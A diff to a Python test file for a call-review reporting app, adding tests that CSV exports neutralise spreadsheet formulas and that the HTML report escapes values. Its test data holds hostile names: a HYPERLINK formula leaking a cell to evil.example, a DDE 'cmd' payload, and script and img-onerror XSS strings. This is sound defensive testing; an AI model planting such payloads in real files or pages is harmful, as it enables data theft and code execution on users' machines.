@@ -13,6 +13,7 @@ from datetime import date
 from pathlib import Path
 
 import pytest
+from sqlalchemy import select
 
 from qa.errors import AccessDenied
 from qa.queries.evaluations_in_view import EvaluationFilter
@@ -20,6 +21,7 @@ from qa.queries.review import ReviewSubmission, VerdictDecision, submit_review
 from qa.reports.evaluations_csv import HEADER, evaluations_csv
 from qa.reports.monthly import build_monthly_report, month_range, monthly_report_html
 from qa.storage.db import session_scope
+from qa.storage.models import Agent, Client, Team
 from tests.qa.conftest import run_cli
 from tests.ui.seed import Seeded, seed
 from tests.ui.seed import viewer_named as viewer
@@ -181,7 +183,9 @@ def test_the_report_command_writes_the_monthly_html(data: Seeded, tmp_path: Path
 def test_a_reviewed_call_exports_the_reviewers_evaluation(data: Seeded) -> None:
     decision = VerdictDecision("greeting", "pass", "The greeting is there, just quiet")
     with session_scope(data.url) as session:
-        submission = ReviewSubmission(data.evaluations["gina-1"], (decision,))
+        submission = ReviewSubmission(
+            data.calls["gina-1"], {data.evaluations["gina-1"]: (decision,)}
+        )
         submit_review(session, viewer(data.url, "reviewer"), submission)
     with session_scope(data.url) as session:
         rows = rows_of(evaluations_csv(session, NOVEMBER, viewer(data.url, "admin")))
@@ -189,3 +193,46 @@ def test_a_reviewed_call_exports_the_reviewers_evaluation(data: Seeded) -> None:
     assert (gina_1["evaluation_kind"], gina_1["reviewer"]) == ("human", "Rita Reviewer")
     assert (gina_1["score"], gina_1["failed_criteria"]) == ("100.0", "")
     assert len(rows) == 8  # the review replaces the automatic evaluation, it adds no row
+
+
+HOSTILE = {
+    "agent": '=HYPERLINK("http://evil.example/?"&A1,"click")<img src=x onerror=alert(1)>',
+    "team": "</script><script>alert(2)</script>",
+    "client": "+cmd|' /C calc'!A0<b>",
+}
+
+
+def _make_names_hostile(url: str) -> None:
+    with session_scope(url) as session:
+        agent = session.scalars(select(Agent).where(Agent.name == "Gina Lopez")).one()
+        agent.name = HOSTILE["agent"]
+        team = session.get_one(Team, agent.team_id)
+        team.name = HOSTILE["team"]
+        session.get_one(Client, team.client_id).name = HOSTILE["client"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(data: Seeded) -> None:
+    _make_names_hostile(data.url)
+    with session_scope(data.url) as session:
+        text = evaluations_csv(session, NOVEMBER, viewer(data.url, "coach"))
+    rows = [r for r in rows_of(text) if r["call_id"].startswith("gina")]
+    assert rows
+    for row in rows:
+        assert row["agent"] == "'" + HOSTILE["agent"]
+        assert row["client"] == "'" + HOSTILE["client"]
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert "'-" not in text  # numbers stay numbers
+
+
+def test_the_html_report_escapes_every_value(data: Seeded) -> None:
+    _make_names_hostile(data.url)
+    with session_scope(data.url) as session:
+        client_id = session.scalar(select(Client.id).where(Client.name == HOSTILE["client"]))
+        assert client_id is not None
+        report = build_monthly_report(
+            session, viewer(data.url, "admin"), client_id, date(2026, 11, 17)
+        )
+    page = monthly_report_html(report)
+    assert "<img src=x" not in page and "<script>alert" not in page and "<b>" not in page
+    assert "&lt;img src=x onerror=alert(1)&gt;" in page
